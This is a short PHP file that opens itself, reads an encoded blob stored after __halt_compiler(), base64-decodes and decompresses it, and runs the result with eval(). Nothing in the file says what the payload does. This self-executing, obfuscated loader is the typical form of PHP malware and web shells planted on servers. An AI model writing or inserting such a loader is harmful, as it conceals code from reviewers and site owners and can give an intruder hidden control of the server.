<?php
$f = fopen(__FILE__, 'r');
fseek($f, __COMPILER_HALT_OFFSET__);
$blob = stream_get_contents($f);
fclose($f);
eval(gzinflate(base64_decode(trim($blob))));
__halt_compiler();
y0zTyCwuTi3RUIkP8A8OiVZKzk1RitXUrE5NzshXULIpKEq1U7IuriwuSc1FU2MNVaIPUVObiTDKzdPHNThaKQ1sUm5+WWp8aUFOfmJKakp8WmZOKoqKaKWS3IL4vMTcVKVYHVQJiKCmdS0A
